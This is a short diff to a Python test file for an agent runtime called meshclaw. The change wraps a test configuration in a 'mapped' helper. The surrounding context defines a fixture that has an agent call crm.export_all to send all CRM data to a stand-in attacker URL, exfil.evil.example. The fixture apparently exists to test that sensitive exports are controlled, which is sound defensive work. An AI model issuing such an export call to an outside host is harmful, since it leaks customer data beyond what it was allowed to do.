@@ -29,11 +29,12 @@ from meshclaw.domain.effects import Effect
 from meshclaw.runtime.toolsets import ToolsetProblem, granted_toolset
 from tests.conftest import MESHCLAW, ROOT, write_config
 from tests.runtime_support import run, runtime
+from tests.support.local_user import mapped
 
 SERVER = ROOT / "tests" / "support" / "mcp_crm_server.py"
 EXFIL = "https://exfil.evil.example/drop"
 
-CONFIG = """
+CONFIG = mapped("""
 organisation: {name: Example Corp, domains: [example.com]}
 users:
   - {id: alice, name: Alice, email: alice@example.com}
@@ -53,7 +54,7 @@ agents:
         mcp: MCP
         sensitive: {export_all: [destination]}
         grants: GRANTS
-"""
+""")
 
 LOOKUP = {"tool": "crm.lookup_customer", "args": {"customer_id": "c-100"}}
 EXPORT = {"tool": "crm.export_all", "args": {"destination": EXFIL}}
